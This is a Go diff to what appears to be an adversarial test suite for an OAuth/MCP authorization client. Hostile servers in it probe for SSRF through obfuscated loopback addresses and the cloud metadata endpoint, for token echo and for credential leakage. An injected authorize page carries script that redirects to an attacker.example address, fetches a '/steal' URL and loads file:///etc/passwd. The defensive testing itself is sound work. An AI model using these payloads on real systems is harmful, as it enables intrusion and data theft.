@@ -59,9 +59,10 @@ func privateAddresses() (*Attack, error) {
 	}
 	port := trap.Addr().(interface{ String() string }).String()
 	port = port[strings.LastIndexByte(port, ':')+1:]
-	r, err := bend(func(o *reference.Options) {
-		o.Host = "mcp.example.com"
+	var named atomic.Int64
+	_, args, end, err := public(func(o *reference.Options) {
 		o.Policy.PRM = func(_ string, doc map[string]any) {
+			named.Add(1)
 			doc["authorization_servers"] = []string{"http://127.0.0.2:" + port, "http://[::ffff:127.0.0.2]:" + port, "http://2130706434:" + port, "http://0x7f000002:" + port, "http://169.254.169.254/latest"}
 			doc["jwks_uri"], doc["resource_documentation"] = "http://127.0.0.2:"+port+"/jwks", "http://127.0.0.2:"+port+"/docs"
 		}
@@ -70,15 +71,12 @@ func privateAddresses() (*Attack, error) {
 		trap.stop()
 		return nil, err
 	}
-	args := []string{"run", r.URL, "--timeout", "8s", "--allow-intrusive=false"}
-	for from, to := range r.ConnectTo {
-		args = append(args, "--connect-to", from+"="+to)
-	}
-	return &Attack{Args: args, Close: func() { r.Close(); trap.stop() }, Judge: func(o Outcome) error {
+	args = append(args, "--timeout", "8s", "--allow-intrusive=false")
+	return &Attack{Args: args, Close: func() { end(); trap.stop() }, Judge: func(o Outcome) error {
 		if n := trap.connections(); n > 0 {
 			return fmt.Errorf("%d connections to a private address", n)
 		}
-		return notGreen(o)
+		return errors.Join(unsprung(named.Load()), notGreen(o))
 	}}, nil
 }
 
@@ -109,7 +107,7 @@ func credentialsElsewhere() (*Attack, error) {
 		if got := trap.received(); got != "" {
 			return fmt.Errorf("another origin got %.200q", got)
 		}
-		return notGreen(o)
+		return errors.Join(unsprung(turn.Load()), notGreen(o))
 	}}, nil
 }
 
@@ -468,9 +466,11 @@ func paths() (*Attack, error) {
 // secrets has the server say back what it was sent, in other spellings too.
 func secrets() (*Attack, error) {
 	canary := "canary-7Hq2xZ9vLm4KpW8sTfBd"
+	var said atomic.Int64
 	r, err := wrapped(func(h http.Handler) http.Handler {
 		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
 			if a := req.Header.Get("Authorization"); strings.Contains(a, canary) && req.Method == http.MethodPost {
+				said.Add(1)
 				for name, value := range spellings(a) {
 					w.Header().Set("X-Echo-"+name, value)
 				}
@@ -493,7 +493,7 @@ func secrets() (*Attack, error) {
 				return fmt.Errorf("the token is in an output, %s", name)
 			}
 		}
-		return notGreen(o)
+		return errors.Join(unsprung(said.Load()), notGreen(o))
 	}}, nil
 }
 
@@ -537,7 +537,7 @@ func manyKeys() (*Attack, error) {
 		return nil, err
 	}
 	return &Attack{Args: []string{"run", r.URL, "--timeout", "8s"}, Close: r.Close, Judge: func(o Outcome) error {
-		return errors.Join(lean(o, 128<<20), notGreen(o))
+		return errors.Join(unsprung(int64(r.IDP.KeyFetches())), lean(o, 128<<20), notGreen(o))
 	}}, nil
 }
 
@@ -617,28 +617,38 @@ location.href="mailto:pwned@attacker.example";
 fetch("http://` + trap.Addr().String() + `/steal").catch(()=>{});
 new Image().src="file:///etc/passwd";
 </script><p>Loading</p>`
-	r, err := wrapped(func(h http.Handler) http.Handler {
-		return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
-			if req.URL.Path == "/authorize" {
-				w.Header().Set("Content-Type", "text/html")
-				_, _ = io.WriteString(w, page)
-				return
-			}
-			h.ServeHTTP(w, req)
-		})
-	}, func(o *reference.Options) { o.Behaviour.Pages = "javascript" })
+	var shown atomic.Int64
+	_, args, end, err := public(func(o *reference.Options) {
+		o.Behaviour.Pages = "javascript"
+		o.Wrap = func(h http.Handler) http.Handler {
+			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+				if req.URL.Path == "/authorize" {
+					if strings.Contains(req.UserAgent(), "Chrome") {
+						shown.Add(1)
+					}
+					w.Header().Set("Content-Type", "text/html")
+					_, _ = io.WriteString(w, page)
+					return
+				}
+				h.ServeHTTP(w, req)
+			})
+		}
+	})
 	if err != nil {
 		trap.stop()
 		return nil, err
 	}
-	args := []string{"run", r.URL, "--username", "alice", "--login", "browser", "--browser-no-sandbox", "--timeout", "9s", "--only", "AS-TOKEN-SUCCESS-SHAPE"}
-	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { r.Close(); trap.stop() }, Judge: func(o Outcome) error {
+	args = append(args, "--username", "alice", "--login", "browser", "--browser-no-sandbox", "--timeout", "9s", "--only", "AS-TOKEN-SUCCESS-SHAPE")
+	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); trap.stop() }, Judge: func(o Outcome) error {
 		if strings.Contains(o.All(), password) {
 			return errors.New("the password is in an output")
+		}
+		if n := trap.connections(); n > 0 {
+			return fmt.Errorf("the page had %d connections made to another private address", n)
 		}
 		if len(o.Strays) > 0 {
 			return fmt.Errorf("something was downloaded: %v", o.Strays)
 		}
-		return errors.Join(within(o, 14*time.Second), notGreen(o))
+		return errors.Join(unsprung(shown.Load()), within(o, 14*time.Second), notGreen(o))
 	}}, nil
 }
